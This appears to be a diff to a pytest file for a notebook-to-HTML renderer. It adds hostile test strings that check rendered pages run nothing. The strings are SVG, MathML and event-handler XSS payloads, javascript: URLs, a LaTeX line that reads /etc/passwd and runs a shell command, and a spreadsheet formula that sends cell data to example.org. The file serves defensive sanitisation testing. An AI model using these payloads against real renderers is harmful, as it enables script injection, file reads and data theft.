@@ -29,7 +29,30 @@ HOSTILE = {
     "private": "\ue000\uf8ff\U000f0000\ufdd0\uffff\U0001ffff\u0378",
     "surrogate": "a\ud800b\udfffc",
     "long": "x" * 500,
+    "longest": "x" * 100_000,
+    "svg": '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s /><set to="javascript:alert(1)"/>'
+    "<foreignObject><body onload=alert(1)></foreignObject><use href='data:image/svg+xml,<svg onload=alert(1)>'/></svg>",
+    "mathml": '<math><maction actiontype="statusline#http://example.org" xlink:href="javascript:alert(1)">x</maction>'
+    '<annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml><mtext><style></math>',
+    "handlers": "<details open ontoggle=alert(1)><input autofocus onfocus=alert(1)><video><source onerror=alert(1)>",
+    "loading": '<link rel=stylesheet href="http://example.org/x.css"><iframe srcdoc="<script>alert(1)</script>"></iframe>'
+    "<meta http-equiv=refresh content='0;http://example.org'><base href='http://example.org/'>",
+    "javascript": "javascript:alert(1)//",
+    "latex": r"\input{/etc/passwd}\immediate\write18{id} $$\href{javascript:alert(1)}{x}$$ % & # _ ^ ~ \end{document}",
+    "formula": '=HYPERLINK("http://example.org/?x="&A1,"x")',
+    "mermaid": '```mermaid\ngraph TD; a["<img src=x onerror=alert(1)>"]; click a "javascript:alert(1)"\n```',
 }
+# Kinds of output that a notebook may hold and that run, load or draw something where they are shown.
+PLANTED = (
+    "application/javascript",
+    "application/vnd.jupyter.widget-view+json",
+    "application/vnd.mermaid+json",
+    "application/vnd.plotly.v1+json",
+    "image/svg+xml",
+    "text/latex",
+    "text/markdown",
+    "text/vnd.mermaid",
+)
 
 
 def everywhere(patch: pytest.MonkeyPatch, text: str) -> dict[str, Any]:
@@ -51,11 +74,7 @@ def everywhere(patch: pytest.MonkeyPatch, text: str) -> dict[str, Any]:
         {"output_type": "stream", "name": "stdout", "text": text},
         {"output_type": "error", "ename": text, "evalue": text, "traceback": [text]},
         {"output_type": "display_data", "data": {"text/plain": text, "text/html": text}, "metadata": {}},
-        {
-            "output_type": "display_data",
-            "data": {"application/javascript": text, "text/markdown": text},
-            "metadata": {},
-        },
+        *({"output_type": "display_data", "data": {kind: text}, "metadata": {}} for kind in PLANTED),
     ]
     cells = [
         markdown(
@@ -73,7 +92,7 @@ def test_the_page_shows_it_and_runs_nothing(monkeypatch: pytest.MonkeyPatch, kin
     html.encode()
     page = Page(html)
     _harmless(page)
-    if kind in ("script", "typst", "long"):
+    if kind in ("script", "typst", "long", "svg", "mathml", "handlers", "loading", "javascript", "latex", "formula"):
         assert page.text.count(HOSTILE[kind]) > 8
 
 
